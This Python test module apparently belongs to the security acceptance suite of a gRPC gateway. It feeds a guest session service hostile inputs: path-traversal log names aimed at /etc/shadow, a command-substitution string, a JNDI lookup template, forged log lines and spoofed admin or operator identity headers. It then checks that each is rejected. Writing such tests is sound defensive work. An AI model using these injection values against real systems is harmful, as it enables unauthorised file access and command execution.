"""What the attacker says is data: no path, no query, no program, no type.

Texts in every field of a session are in live_streams; here are names and types that older designs
took as instructions, and what may be put around a call.
"""

from __future__ import annotations

from collections.abc import Callable

from tests.acceptance.installation import files_below
from tests.attacks.authorisation import unknown_fields
from tests.attacks.case import CLOSED, HARMLESS, IA, PD, UN, Attack, Trail
from tests.attacks.scene import BUNDLE, CONNECT, Scene
from tests.attacks.wire import Answer
from trove_grpc.gen.guest.v1 import guest_session_service_pb2 as guest_pb2

DROPPED_LOG = Trail(metric="trove_gateway_dropped_total", labels=(("what", "log_chunk"),))
DROPPED_UNKNOWN = Trail(metric="trove_gateway_dropped_total", labels=(("what", "unknown"),))
SERVED = Trail(metric="trove_rpc_seconds_count", labels=(("method", BUNDLE),))

_LOG_NAMES = {
    "a way up": "../../etc/shadow",
    "an absolute path": "/etc/shadow",
    "NUL": "error.log\x00.txt",
    "4 KiB": "l" * 4096,
    "an escaped way up": "%2e%2e%2fshadow",
    "an option": "--output=/etc/passwd",
    "a command": "$(id)`id`;id|id",
}


def _log(name: str) -> Callable[[Scene], Answer]:
    """A log nobody asked for, under a name that is a path."""

    def run(scene: Scene) -> Answer:
        with scene.session() as session:
            chunk = guest_pb2.LogChunk(log_name=name, offset=-1, data=b"x", is_last=True)
            session.send(log_chunk=chunk)
            answer = session.outcome(seconds=0.3)
        assert not [path for path in files_below(scene.plane.state) if path.name == name]
        return answer

    return run


def _typed(scene: Scene) -> Answer:
    """A message of no kind of ours, which names a class to import (upstream: notify_end)."""
    with scene.session() as session:
        data = unknown_fields(
            notification_classname="antigravity.Notification", kwargs="{}", method="delete"
        )
        session.connection.write(session.stream, data)
        answer = session.outcome(seconds=0.3)
    for process in ("gateway", "conductor"):
        pid = scene.plane.pid_of(process)
        with open(f"/proc/{pid}/maps") as maps:  # noqa: PTH123  a proc file
            assert "antigravity" not in maps.read()
    return answer


def _headers(*headers: tuple[str, str]) -> Callable[[Scene], Answer]:
    def run(scene: Scene) -> Answer:
        answer = scene.call(BUNDLE, b"", headers=headers)
        scene.check_logs()
        return answer

    return run


def _claims(**claims: str) -> Callable[[Scene], Answer]:
    """Identity in metadata: a forbidden call stays forbidden."""

    def run(scene: Scene) -> Answer:
        headers = [(name.replace("_", "-"), value) for name, value in claims.items()]
        return scene.call("/trove.issuer.v1.IssuerService/MintToken", b"", headers=headers)

    return run


def _content_type(value: str) -> Callable[[Scene], Answer]:
    def run(scene: Scene) -> Answer:
        with scene.connect() as connection:
            stream = connection.frames.get_next_available_stream_id()
            connection.streams[stream] = Answer(connected=True)
            connection._pending[stream] = bytearray()
            headers = [
                (":method", "POST"),
                (":scheme", "https"),
                (":path", CONNECT),
                (":authority", "x"),
                ("content-type", value),
            ]
            connection.frames.send_headers(stream, headers, end_stream=True)
            connection.flush()
            return connection.result(stream, seconds=2)

    return run


_TAKEN_AS = "what a guest says is taken as an instruction"

ATTACKS = (
    *(
        Attack(
            name=f"a log piece whose name is {what}",
            threat="a file of the control plane is read or written",
            run=_log(name),
            expect=(HARMLESS,),
            trail=DROPPED_LOG,
            cases=(61,),
            own=True,
            smoke=what == "a way up",
        )
        for what, name in _LOG_NAMES.items()
    ),
    Attack(
        name="a message that names a class to import",
        threat="code of the attacker's choice in the conductor (upstream: notify_end)",
        run=_typed,
        expect=(HARMLESS,),
        trail=DROPPED_UNKNOWN,
        cases=(65,),
        own=True,
    ),
    *(
        Attack(
            name=f"a request id that is {what}",
            threat="forged or broken log lines",
            run=_headers(("x-request-id", value)),
            expect=("OK",),
            trail=SERVED,
        )
        for what, value in {
            "a forged log line": '{"level": "CRITICAL", "message": "forged"}',
            "4 kB long": "r" * 4000,
            "a template": "${jndi:ldap://x}",
        }.items()
    ),
    Attack(
        name="two request ids",
        threat="a request that cannot be followed",
        run=_headers(("x-request-id", "one"), ("x-request-id", "two")),
        expect=("OK",),
        trail=SERVED,
    ),
    *(
        Attack(
            name=f"metadata that claims {what}",
            threat="identity from anywhere but the certificate",
            run=_claims(**claims),
            expect=(PD,),
            reason="PERMISSION_DENIED",
            cases=(26,),
        )
        for what, claims in {
            "to be the operator": {
                "x_spiffe_id": "spiffe://local.trove/operator/root",
                "x_forwarded_client_cert": "URI=spiffe://local.trove/operator/root",
            },
            "a Keystone admin": {"x_auth_token": "admin", "x_roles": "admin", "x_tenant_id": "x"},
            "to come from the machine itself": {"x_forwarded_for": "127.0.0.1", "via": "local"},
        }.items()
    ),
    *(
        Attack(
            name=f"a call as {value!r}",
            threat="another parser reads the same call",
            run=_content_type(value),
            expect=(CLOSED, UN, IA, "UNKNOWN", "INTERNAL", "SILENT", PD),
            trail=Trail(metric="trove_tls_handshakes_total", labels=(("listener", "guest"),)),
            own=True,
        )
        for value in ("application/json", "text/html", "application/grpc-web+proto")
    ),
)
